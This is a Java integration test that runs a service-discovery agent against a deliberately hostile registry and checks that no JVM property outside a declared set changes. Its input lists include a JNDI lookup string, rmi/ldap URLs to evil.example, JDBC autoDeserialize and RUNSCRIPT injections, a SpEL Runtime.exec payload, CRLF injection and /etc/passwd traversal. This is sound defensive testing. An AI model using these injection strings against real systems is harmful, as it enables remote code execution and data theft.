package io.muster.endtoend;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.protobuf.ByteString;
import io.muster.fuzz.Forge;
import io.muster.registry.v1.Command;
import io.muster.registry.v1.Endpoint;
import io.muster.registry.v1.Endpoints;
import io.muster.registry.v1.Move;
import io.muster.registry.v1.RegistryMessage;
import io.muster.registry.v1.Shutdown;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A registry in an enemy's hands, against a real agent in a real JVM: it owns no host. */
@Timeout(value = 3, unit = TimeUnit.MINUTES, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
class EvilRegistryIT {
  private static final Path JAVA = Path.of(System.getProperty("java.home"), "bin", "java");
  private static final Pattern HARMLESS = Pattern.compile("[A-Za-z0-9.,:/\\[\\]_~+-]*");
  private static final String MEGABYTE = "a".repeat(1_048_576);
  private static final List<String> NAMES =
      List.of(
          "java.home",
          "java.class.path",
          "java.rmi.server.codebase",
          "javax.net.ssl.trustStore",
          "javax.net.ssl.keyStore",
          "http.proxyHost",
          "https.proxyHost",
          "socksProxyHost",
          "com.sun.jndi.ldap.object.trustURLCodebase",
          "java.naming.provider.url",
          "log4j2.formatMsgNoLookups",
          "log4j.configurationFile",
          "logback.configurationFile",
          "spring.config.location",
          "spring.datasource.url",
          "app.address",
          "muster.registry",
          "muster.endpoint.needed.host",
          "needed.host",
          "needed\n",
          "need\u0435d",
          "NEEDED",
          "",
          "a\r\nb=c",
          "x".repeat(100_000));
  private static final List<String> VALUES =
      List.of(
          "${jndi:ldap://evil.example/a}",
          "ldap://evil.example/a",
          "rmi://evil.example/a",
          "evil.example/?allowLoadLocalInfile=true&autoDeserialize=true",
          "evil.example;INIT=RUNSCRIPT",
          "10.9.8.7\r\nX-Evil: 1",
          "10.9.8.7\n",
          "10.9.8.7\u0000",
          "\uff11\uff10.9.8.7",
          "\u0661\u0660.9.8.7",
          "::\uff11",
          "ev\u0456l.example",
          "\u202eelpmaxe.live",
          "user:secret@evil.example",
          "evil.example#",
          "file:///etc/passwd",
          "../../etc/passwd",
          "#{T(java.lang.Runtime).getRuntime().exec('id')}",
          "%0d%0a",
          " ",
          "x".repeat(100_000));

  @TempDir Path folder;

  /** Behind TLS it has the registry's own certificate: it is believed, and owns no host either. */
  @ParameterizedTest(name = "over TLS: {0}")
  @ValueSource(booleans = {false, true})
  void noPropertyOutsideOfTheDeclaredOnesChanges(boolean secure) throws Exception {
    Map<String, String> without = properties(Fleet.plainProbe(JAVA, options()));
    List<RegistryMessage> said = said();
    Forge.Made authority = Forge.authority("authority");
    Path trusted = Files.writeString(folder.resolve("ca.pem"), authority.pem());
    try (HandMadeRegistry evil =
        secure
            ? HandMadeRegistry.secure(said, Forge.registry(authority))
            : HandMadeRegistry.plain(said)) {
      List<String> command = Fleet.plainProbe(JAVA, options());
      command.add(1, "-javaagent:" + Fleet.AGENT);
      command.add(2, "-Dmuster.registry=" + evil.address());
      command.add(3, "-Dprobe.watch=muster.endpoint.needed");
      command.add(4, "-Dmuster.snapshot.dir=" + folder.resolve("snapshots"));
      if (secure) {
        command.add(5, "-Dmuster.tls.ca=" + trusted);
      }
      Map<String, String> with = properties(command);
      assertThat(evil.heard()).contains("Resolve", "Connect");
      assertThat(with.get("muster.endpoint.needed")).isEqualTo("10.9.8.1:80");
      assertThat(with.get("app.address")).isEqualTo("tcp://10.9.8.1:80");
      List<String> strange = changed(without, with);
      System.out.println(
          "an evil registry"
              + (secure ? " over TLS: " : ": ")
              + said.size()
              + " messages of "
              + NAMES.size()
              + " names and "
              + VALUES.size()
              + " values; properties changed outside the declared set: "
              + strange.size());
      assertThat(strange).isEmpty();
    }
  }

  /** What a message too long for gRPC does: the stream ends, the agent comes back. */
  @Test
  void aMegabyteEndsTheStreamAndNothingElse() throws Exception {
    List<RegistryMessage> said =
        List.of(HandMadeRegistry.endpoints(Endpoints.newBuilder().setRequirementKey(MEGABYTE)));
    try (HandMadeRegistry evil = HandMadeRegistry.plain(said)) {
      List<String> command = Fleet.plainProbe(JAVA, options());
      command.add(1, "-javaagent:" + Fleet.AGENT);
      command.add(2, "-Dmuster.registry=" + evil.address());
      command.add(3, "-Dmuster.await=1s");
      command.add(4, "-Dmuster.snapshot.dir=" + folder);
      try (Proc probe = Proc.start(folder, command)) {
        probe.await("main reached");
        probe.await(
            "the stream's end",
            line -> line.contains("no registry at") || line.contains("lost the registry"));
        probe.say("exit 3");
        assertThat(probe.awaitExit()).isEqualTo(3);
      }
    }
  }

  private static String[] options() {
    return new String[] {
      "-Dmuster.service.name=host",
      "-Dmuster.requires=needed",
      "-Dmuster.inject.app.address={needed.url}",
      "-Dmuster.inject.http.proxyHost={needed.host}",
      "-Dmuster.inject.java.rmi.server.codebase={needed.url}",
    };
  }

  private static List<RegistryMessage> said() {
    List<RegistryMessage> all = new ArrayList<>();
    int revision = 1;
    for (String name : NAMES) {
      all.add(
          HandMadeRegistry.endpoints(
              Endpoints.newBuilder()
                  .setRequirementKey(name)
                  .setRevision(revision++)
                  .addEndpoints(endpoint("evil.example").setProtocol("http"))));
    }
    for (String value : VALUES) {
      Endpoints.Builder each =
          Endpoints.newBuilder().setRequirementKey("needed").setRevision(revision++);
      each.addEndpoints(endpoint(value));
      each.addEndpoints(endpoint("10.9.8.1").setProtocol(value));
      each.addEndpoints(endpoint("10.9.8.1").setVersion(value));
      each.addEndpoints(endpoint("10.9.8.1").setPort(70_000));
      all.add(HandMadeRegistry.endpoints(each));
    }
    all.add(command(Command.newBuilder().setShutdown(Shutdown.newBuilder().setHaltAfterMillis(1))));
    all.add(RegistryMessage.newBuilder().setMove(Move.newBuilder().setWithinMillis(-1)).build());
    all.add(
        HandMadeRegistry.endpoints(
            Endpoints.newBuilder()
                .setRequirementKey("needed")
                .setRevision(revision)
                .addEndpoints(endpoint("10.9.8.1").setProtocol("jndi"))));
    return all;
  }

  private static RegistryMessage command(Command.Builder command) {
    return RegistryMessage.newBuilder()
        .setCommand(command.setId("evil\r\n").setReason("x\ny"))
        .build();
  }

  private static Endpoint.Builder endpoint(String host) {
    return Endpoint.newBuilder()
        .setInstanceId(ByteString.copyFrom(new byte[16]))
        .setHost(host)
        .setPort(80)
        .setState(Endpoint.State.UP);
  }

  /** Runs the probe until all was said, and returns every property of its JVM. */
  private Map<String, String> properties(List<String> command) throws Exception {
    try (Proc probe = Proc.start(folder, command)) {
      probe.await("main reached");
      if (command.stream().anyMatch(word -> word.startsWith("-javaagent:"))) {
        probe.await("property muster.endpoint.needed=10.9.8.1:80");
      }
      probe.say("properties");
      probe.await("properties end");
      Map<String, String> all = new TreeMap<>();
      for (String line : probe.lines()) {
        if (line.startsWith("has ")) {
          int equals = line.indexOf('=');
          all.put(line.substring(4, equals), line.substring(equals + 1));
        }
      }
      assertThat(all).containsKey("java.home");
      probe.say("exit 0");
      assertThat(probe.awaitExit()).isZero();
      return all;
    }
  }

  private static List<String> changed(Map<String, String> without, Map<String, String> with) {
    List<String> strange = new ArrayList<>();
    with.forEach(
        (key, value) -> {
          boolean declared = key.startsWith("muster.endpoint.needed") || key.equals("app.address");
          if (declared && !HARMLESS.matcher(value).matches()) {
            strange.add(key + "=" + value);
          }
          boolean ours = // what the test itself tells the agent, and the JVM of its command line
              key.equals("muster.registry")
                  || key.equals("muster.snapshot.dir")
                  || key.equals("muster.tls.ca")
                  || key.equals("probe.watch");
          if (!declared && !ours && !value.equals(without.get(key))) {
            strange.add(key + "=" + value);
          }
        });
    without.keySet().stream().filter(key -> !with.containsKey(key)).forEach(strange::add);
    return strange;
  }
}
